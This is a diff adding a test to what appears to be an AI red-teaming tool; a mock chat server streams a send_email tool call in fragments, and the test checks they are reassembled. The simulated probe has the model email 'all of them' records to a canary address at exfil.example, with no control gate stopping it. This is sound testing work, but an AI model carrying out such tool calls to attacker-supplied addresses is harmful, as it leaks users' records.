@@ -261,3 +261,43 @@ def test_the_python_target_example_in_the_docs_runs_as_written(cli, tmp_path, mo
     assert mail["outcome"] == "unobservable", mail
     assert any(link["control"] == "APP-TOOL-02" and link["held"] is False for link in mail["chain"])
     assert all(r["outcome"] != "error" for r in by.values())
+
+
+def test_an_openai_style_stream_has_its_text_and_its_tool_call_fragments_put_together(tmp_path):
+    import json
+    import re
+
+    from starlette.applications import Starlette
+    from starlette.requests import Request
+    from starlette.responses import Response
+    from starlette.routing import Route
+
+    from demarcate.serve import BackgroundServer
+
+    async def chat(request: Request) -> Response:
+        asked = (await request.json())["messages"][-1]["content"]
+        to = re.search(r"[\w.+-]+@[\w.-]+\w", asked).group(0)
+        arguments = json.dumps({"to": to, "subject": "records", "body": "all of them"})
+        chunks = [{"content": "Sending "}, {"content": "now."},
+                  {"tool_calls": [{"index": 0, "id": "c1", "type": "function",
+                                   "function": {"name": "send_email", "arguments": arguments[:9]}}]},
+                  *({"tool_calls": [{"index": 0, "function": {"arguments": arguments[i:i + 9]}}]}
+                    for i in range(9, len(arguments), 9))]
+        body = "".join(f"data: {json.dumps({'choices': [{'index': 0, 'delta': c}]})}\n\n" for c in chunks)
+        return Response(body + "data: [DONE]\n\n", media_type="text/event-stream")
+
+    server = BackgroundServer(Starlette(routes=[Route("/chat", chat, methods=["POST"])])).start()
+    spec = tmp_path / "target.yaml"
+    spec.write_text(dump_yaml({"url": server.url + "/chat", "body": {"messages": [{"role": "user", "content": "{message}"}]},
+                               "reply": "choices.0.delta.content", "tool-calls": "choices.0.delta.tool_calls",
+                               "tool-calls-ran": True}))
+    try:
+        (result,) = run_campaign(load([SHOPBOT]), target=f"http:{spec}", probes="user-email-records",
+                                 db=str(tmp_path / "h.sqlite"))["results"]
+    finally:
+        server.stop()
+    assert result["evidence"]["reply"] == "Sending now."
+    (call,) = result["evidence"]["tool_calls"]  # one call, its arguments whole again
+    assert call["name"] == "send_email" and json.loads(call["arguments"])["to"] == f"{result['canary']}@exfil.example"
+    gate = next(x for x in result["chain"] if x["control"] == "APP-TOOL-02")
+    assert gate["held"] is False  # it ran, with the attacker's address: no gate stopped it
